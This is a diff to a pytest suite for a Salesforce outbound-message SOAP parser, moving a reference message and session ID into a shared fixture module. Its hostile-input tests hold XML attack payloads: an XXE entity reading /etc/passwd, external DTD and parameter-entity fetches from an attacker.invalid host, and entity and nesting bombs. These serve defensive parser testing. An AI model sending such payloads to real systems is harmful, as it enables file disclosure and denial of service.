@@ -10,6 +10,7 @@ import pytest
 from defusedxml.ElementTree import fromstring
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from support.reference import SALESFORCE_OUTBOUND_MESSAGE, SALESFORCE_SESSION_ID
 
 from app.platforms.salesforce.outbound_message import (
     ACK_RESPONSE,
@@ -26,45 +27,6 @@ from app.platforms.salesforce.outbound_message import (
 SOAPENV = "http://schemas.xmlsoap.org/soap/envelope/"
 OUTBOUND = "http://soap.sforce.com/2005/09/outbound"
 
-# Verbatim from reference/salesforce.md §1.4 (aspnet/WebHooks functional-test fixture).
-REAL_MESSAGE = """\
-<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
- <soapenv:Body>
-  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
-   <OrganizationId>012345678901234</OrganizationId>
-   <ActionId>04k1I000000bmsHQAQ</ActionId>
-   <SessionId>00D1I000003qqqE!AQsAQOjGFnFJzGPA12yhUGL9Aii0N6lADjH2bNUBHRer5QjjTq3_RbIzlAqHBkfjp3vlHhlwByFY9MJQJlgz_7YaGJZzRF3t</SessionId>
-   <EnterpriseUrl>https://na73.salesforce.com/services/Soap/c/41.0/00D1I000003qqqE</EnterpriseUrl>
-   <PartnerUrl>https://na73.salesforce.com/services/Soap/u/41.0/00D1I000003qqqE</PartnerUrl>
-   <Notification>
-    <Id>04l1I000000fztEQAQ</Id>
-    <sObject xsi:type="sf:Contact" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
-     <sf:Id>0031I0000081tbPQAQ</sf:Id>
-     <sf:CreatedDate>2017-12-11T21:49:24.000Z</sf:CreatedDate>
-     <sf:FirstName>Jeraldine</sf:FirstName>
-     <sf:LastName>Black</sf:LastName>
-     <sf:Title>White</sf:Title>
-    </sObject>
-   </Notification>
-   <Notification>
-    <Id>04l1I000000fzt9QAA</Id>
-    <sObject xsi:type="sf:Contact" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
-     <sf:Id>0031I0000081tb0QAA</sf:Id>
-     <sf:CreatedDate>2017-12-11T21:44:55.000Z</sf:CreatedDate>
-     <sf:Email>doug.bunting@example.com</sf:Email>
-     <sf:FirstName>Doug</sf:FirstName>
-     <sf:LastName>Bunting</sf:LastName>
-     <sf:Title>Supreme Being</sf:Title>
-    </sObject>
-   </Notification>
-  </notifications>
- </soapenv:Body>
-</soapenv:Envelope>"""
-
-REAL_SESSION_ID = (
-    "00D1I000003qqqE!AQsAQOjGFnFJzGPA12yhUGL9Aii0N6lADjH2bNUBHRer5QjjTq3_RbIzlAqHBkfjp3vlHhlwByFY9"
-    "MJQJlgz_7YaGJZzRF3t"
-)
 
 # Verbatim from reference/salesforce.md §1.5.
 REFERENCE_ACK = """\
@@ -141,12 +103,12 @@ def _message(
 
 
 def test_real_message_parses_every_envelope_value() -> None:
-    message = parse_outbound_message(REAL_MESSAGE.encode())
+    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())
 
     assert message.organization_id == "012345678901234"
     assert len(message.organization_id) == 15
     assert message.action_id == "04k1I000000bmsHQAQ"
-    assert message.session_id == REAL_SESSION_ID
+    assert message.session_id == SALESFORCE_SESSION_ID
     assert message.enterprise_url == (
         "https://na73.salesforce.com/services/Soap/c/41.0/00D1I000003qqqE"
     )
@@ -155,7 +117,7 @@ def test_real_message_parses_every_envelope_value() -> None:
 
 
 def test_real_message_parses_both_notifications_field_by_field() -> None:
-    message = parse_outbound_message(REAL_MESSAGE.encode())
+    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())
 
     assert message.notifications == [
         Notification(
@@ -187,20 +149,20 @@ def test_real_message_parses_both_notifications_field_by_field() -> None:
 
 
 def test_absent_field_is_absent_not_invented() -> None:
-    first = parse_outbound_message(REAL_MESSAGE.encode()).notifications[0]
+    first = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode()).notifications[0]
 
     assert "Email" not in first.fields
     assert "LastModifiedDate" not in first.fields
 
 
 def test_field_order_follows_document_order() -> None:
-    second = parse_outbound_message(REAL_MESSAGE.encode()).notifications[1]
+    second = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode()).notifications[1]
 
     assert list(second.fields) == ["Id", "CreatedDate", "Email", "FirstName", "LastName", "Title"]
 
 
 def test_parsed_message_is_frozen() -> None:
-    message = parse_outbound_message(REAL_MESSAGE.encode())
+    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())
 
     with pytest.raises(AttributeError):
         message.organization_id = "x"  # type: ignore[misc]
@@ -212,11 +174,11 @@ def test_parsed_message_is_frozen() -> None:
 
 
 def test_session_id_never_in_repr_or_str() -> None:
-    message = parse_outbound_message(REAL_MESSAGE.encode())
+    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())
 
-    assert message.session_id == REAL_SESSION_ID
-    assert REAL_SESSION_ID not in repr(message)
-    assert REAL_SESSION_ID not in str(message)
+    assert message.session_id == SALESFORCE_SESSION_ID
+    assert SALESFORCE_SESSION_ID not in repr(message)
+    assert SALESFORCE_SESSION_ID not in str(message)
     assert "AQsAQOjGFnFJzGPA" not in f"{message!r} {message!s} {message}"
     assert "session_id" not in repr(message)
 
@@ -514,12 +476,12 @@ def test_malformed_message_carries_its_reason() -> None:
 
 
 def test_reason_never_echoes_the_session_id() -> None:
-    body = REAL_MESSAGE.replace("<Id>04l1I000000fztEQAQ</Id>", "").encode()
+    body = SALESFORCE_OUTBOUND_MESSAGE.replace("<Id>04l1I000000fztEQAQ</Id>", "").encode()
 
     with pytest.raises(MalformedMessage) as excinfo:
         parse_outbound_message(body)
 
-    assert REAL_SESSION_ID not in str(excinfo.value)
+    assert SALESFORCE_SESSION_ID not in str(excinfo.value)
 
 
 # --- hostile input --------------------------------------------------------------------------
@@ -543,7 +505,7 @@ BILLION_LAUGHS = b"""<?xml version="1.0"?>
  </notifications></soapenv:Body>
 </soapenv:Envelope>"""
 
-XXE_FILE = REAL_MESSAGE.replace(
+XXE_FILE = SALESFORCE_OUTBOUND_MESSAGE.replace(
     "<soapenv:Envelope ",
     '<?xml version="1.0"?>\n<!DOCTYPE soapenv:Envelope [\n'
     ' <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<soapenv:Envelope ',
@@ -552,12 +514,13 @@ XXE_FILE = REAL_MESSAGE.replace(
 
 EXTERNAL_DTD = (
     '<?xml version="1.0"?>\n'
-    '<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.invalid/evil.dtd">\n' + REAL_MESSAGE
+    '<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.invalid/evil.dtd">\n'
+    + SALESFORCE_OUTBOUND_MESSAGE
 )
 
 PARAMETER_ENTITY = (
     '<?xml version="1.0"?>\n<!DOCTYPE x [\n <!ENTITY % remote SYSTEM '
-    '"http://attacker.invalid/x.dtd">\n %remote;\n]>\n' + REAL_MESSAGE
+    '"http://attacker.invalid/x.dtd">\n %remote;\n]>\n' + SALESFORCE_OUTBOUND_MESSAGE
 )
 
 HOSTILE_BODIES = [
@@ -566,18 +529,22 @@ HOSTILE_BODIES = [
     pytest.param(EXTERNAL_DTD.encode(), "DTD", id="external-dtd"),
     pytest.param(PARAMETER_ENTITY.encode(), "DTD", id="external-parameter-entity"),
     pytest.param(
-        REAL_MESSAGE.replace("White", "&undefined;").encode(),
+        SALESFORCE_OUTBOUND_MESSAGE.replace("White", "&undefined;").encode(),
         "not well-formed",
         id="undefined-entity-reference",
     ),
     pytest.param(
-        REAL_MESSAGE.replace(SOAPENV, "http://www.w3.org/2003/05/soap-envelope").encode(),
+        SALESFORCE_OUTBOUND_MESSAGE.replace(
+            SOAPENV, "http://www.w3.org/2003/05/soap-envelope"
+        ).encode(),
         "Envelope namespace",
         id="wrong-envelope-namespace-soap12",
     ),
     pytest.param(_message(envelope_ns="urn:not-soap"), "Envelope namespace", id="wrong-envelope"),
     pytest.param(
-        REAL_MESSAGE.replace(OUTBOUND, "http://soap.sforce.com/2005/09/inbound").encode(),
+        SALESFORCE_OUTBOUND_MESSAGE.replace(
+            OUTBOUND, "http://soap.sforce.com/2005/09/inbound"
+        ).encode(),
         "notifications namespace",
         id="wrong-notifications-namespace",
     ),
@@ -588,7 +555,9 @@ HOSTILE_BODIES = [
     pytest.param(b"", "not well-formed", id="empty-body"),
     pytest.param(b"   \n\t ", "not well-formed", id="whitespace-body"),
     pytest.param(
-        REAL_MESSAGE[: len(REAL_MESSAGE) // 2].encode(), "not well-formed", id="truncated"
+        SALESFORCE_OUTBOUND_MESSAGE[: len(SALESFORCE_OUTBOUND_MESSAGE) // 2].encode(),
+        "not well-formed",
+        id="truncated",
     ),
     pytest.param(
         _message("".join(_notification(i) for i in range(MAX_NOTIFICATIONS + 1))),
@@ -597,7 +566,9 @@ HOSTILE_BODIES = [
     ),
     pytest.param(bytes(range(256)) * 4, "not well-formed", id="non-utf8-garbage"),
     pytest.param(
-        REAL_MESSAGE.replace("Jeraldine", "J\udcffraldine").encode("utf-8", "surrogateescape"),
+        SALESFORCE_OUTBOUND_MESSAGE.replace("Jeraldine", "J\udcffraldine").encode(
+            "utf-8", "surrogateescape"
+        ),
         "not well-formed",
         id="invalid-utf8-inside-valid-xml",
     ),
@@ -606,7 +577,7 @@ HOSTILE_BODIES = [
     ),
     pytest.param(b"<a>" * 100_000 + b"</a>" * 100_000, "nested deeper", id="deep-nesting-root"),
     pytest.param(
-        REAL_MESSAGE.replace(
+        SALESFORCE_OUTBOUND_MESSAGE.replace(
             "<sf:Title>White</sf:Title>",
             "<sf:Title>" + "<x>" * 100_000 + "</x>" * 100_000 + "</sf:Title>",
         ).encode(),
@@ -643,9 +614,9 @@ def test_arbitrary_bytes_raise_only_malformed(body: bytes) -> None:
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.integers(min_value=0, max_value=len(REAL_MESSAGE)), st.binary(max_size=40))
+@given(st.integers(min_value=0, max_value=len(SALESFORCE_OUTBOUND_MESSAGE)), st.binary(max_size=40))
 def test_corrupted_real_message_parses_or_raises_only_malformed(at: int, junk: bytes) -> None:
-    raw = REAL_MESSAGE.encode()
+    raw = SALESFORCE_OUTBOUND_MESSAGE.encode()
     try:
         message = parse_outbound_message(raw[:at] + junk + raw[at:])
     except MalformedMessage:
@@ -746,7 +717,7 @@ def test_organization_matches_on_first_15_characters_case_sensitively(
 
 
 def test_real_message_organization_matches_its_own_id_only() -> None:
-    message = parse_outbound_message(REAL_MESSAGE.encode())
+    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())
 
     assert organization_matches(message.organization_id, "012345678901234ABC")
     assert not organization_matches(message.organization_id, "012345678901235")
